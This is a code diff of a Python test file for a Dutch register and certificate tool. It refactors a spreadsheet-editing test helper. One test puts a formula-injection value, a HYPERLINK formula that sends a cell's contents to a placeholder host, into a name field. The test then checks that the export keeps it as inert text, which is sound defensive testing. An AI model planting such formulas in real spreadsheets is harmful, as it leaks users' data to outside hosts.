@@ -15,10 +15,11 @@ from cbct_docs.deliver.ledger import Ledger
 from cbct_docs.deliver.outbox import Outbox
 from cbct_docs.errors import OutputError
 from cbct_docs.paths import samples_dir
-from cbct_docs.records.inert import set_cell
 from cbct_docs.runs.office import OfficeFolder
 from cbct_docs.runs.register import export_register
 from cbct_docs.store.database import SCHEMA_VERSION, open_database, schema_version
+
+from .registers import edited_register
 
 FIXTURE = Path(__file__).parent / "fixtures" / "ledger-v1.sqlite"
 REPO = Path(__file__).resolve().parent.parent
@@ -83,20 +84,6 @@ def test_a_newer_schema_is_refused(tmp_path: Path) -> None:
         open_database(path)
 
 
-def edited_register(tmp_path: Path, changes: dict[str, dict[str, object]]) -> Path:
-    """The sample register with some cells changed (cert_nr → column → value)."""
-    book = openpyxl.load_workbook(samples_dir() / "register.xlsx")
-    sheet = book.worksheets[0]
-    header = [c.value for c in sheet[1]]
-    for row in sheet.iter_rows(min_row=2):
-        number = row[header.index("cert_nr")].value
-        for column, value in changes.get(str(number), {}).items():
-            set_cell(row[header.index(column)], value)  # as typed: text stays text
-    path = tmp_path / "register.xlsx"
-    book.save(path)
-    return path
-
-
 def test_reading_an_edited_register_lists_what_changed_and_keeps_decisions(
         tmp_path: Path) -> None:
     office = OfficeFolder(tmp_path, REPO / "cbct-docs.toml", new_database_ok=True,
@@ -104,7 +91,8 @@ def test_reading_an_edited_register_lists_what_changed_and_keeps_decisions(
     first = office.import_register(samples_dir() / "register.xlsx")
     assert len(first) == 14 and all(c.what == "nieuw" for c in first)
     assert office.import_register(samples_dir() / "register.xlsx") == []
-    changed = office.import_register(edited_register(tmp_path, {"CBCT-0101": {"city": "Buren"}}))
+    edited = edited_register(tmp_path / "register.xlsx", {"CBCT-0101": {"city": "Buren"}})
+    changed = office.import_register(edited)
     assert [str(c) for c in changed] == [
         "CBCT-0101 Bibliotheek Rivierenland: gewijzigd: city: Tiel → Buren"]
     # A decision moved the end date on; the spreadsheet still has the old one.
@@ -129,7 +117,8 @@ def test_the_exported_register_keeps_a_formula_like_name_as_text(tmp_path: Path)
     office = OfficeFolder(tmp_path, REPO / "cbct-docs.toml", new_database_ok=True,
                           database_file=tmp_path / "db.sqlite")
     name = '=HYPERLINK("http://x.example/?d="&B1,"Klik hier")'
-    office.import_register(edited_register(tmp_path, {"CBCT-0101": {"name": name}}))
+    office.import_register(edited_register(tmp_path / "register.xlsx",
+                                           {"CBCT-0101": {"name": name}}))
     out = tmp_path / "export.xlsx"
     export_register(office, out)
     cell = openpyxl.load_workbook(out).worksheets[0]["B2"]
